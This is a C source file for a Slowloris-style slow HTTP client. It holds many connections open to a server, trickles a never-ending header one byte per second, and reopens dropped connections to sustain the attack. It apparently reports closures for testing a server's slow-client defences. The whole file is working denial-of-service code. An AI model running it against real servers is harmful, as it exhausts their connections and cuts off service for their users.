/* slow_client ADDR PORT N SECS: keeps N connections open to ADDR:PORT (IPv4), sending on
 * each one byte of an HTTP request a second, a header line that never ends, for SECS
 * seconds or until SIGTERM; a connection the server closes is opened again, so that the
 * attack goes on. Prints "ready N" once the first N are open, then "closed C of N" each
 * time the server has closed (end of file, a reset, or a send refused) more of those
 * first N while they were still sending, and at the end "reopened R": the connections
 * opened again. */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char request[] = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ";
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int open_one(const struct sockaddr_in *sa)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd >= 0 && connect(fd, (const struct sockaddr *)sa, sizeof(*sa))) {
		close(fd);
		fd = -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: slow_client ADDR PORT N SECS\n");
		return 2;
	}
	int n = atoi(argv[3]), secs = atoi(argv[4]), closed = 0, reopened = 0;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
	int *fd = calloc((size_t)n, sizeof(*fd));
	size_t *sent = calloc((size_t)n, sizeof(*sent));
	bool *first = calloc((size_t)n, sizeof(*first));
	struct sigaction act = {.sa_handler = on_term};

	if (!fd || !sent || !first || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
		return 2;
	sigaction(SIGTERM, &act, NULL);
	for (int i = 0; i < n; i++) {
		if ((fd[i] = open_one(&sa)) < 0) {
			perror("connect");
			return 1;
		}
		first[i] = true;
	}
	printf("ready %d\n", n);
	fflush(stdout);
	for (int t = 0; t < secs && !stop; t++) {
		int was = closed;
		for (int i = 0; i < n; i++) {
			if (fd[i] < 0) { /* closed by the server: opened again */
				if ((fd[i] = open_one(&sa)) < 0)
					continue;
				sent[i] = 0;
				reopened++;
			}
			char c = sent[i] < sizeof(request) - 1 ? request[sent[i]] : 'a';
			struct pollfd p = {.fd = fd[i], .events = POLLIN};
			char buf[256];
			bool gone = poll(&p, 1, 0) > 0 &&
				    (p.revents & (POLLHUP | POLLERR) ||
				     recv(fd[i], buf, sizeof(buf), MSG_DONTWAIT) <= 0);
			if (gone || send(fd[i], &c, 1, MSG_NOSIGNAL) != 1) {
				close(fd[i]);
				fd[i] = -1;
				closed += first[i];
				first[i] = false;
			} else {
				sent[i]++;
			}
		}
		if (closed > was) {
			printf("closed %d of %d\n", closed, n);
			fflush(stdout);
		}
		sleep(1);
	}
	printf("reopened %d\n", reopened);
	return 0;
}
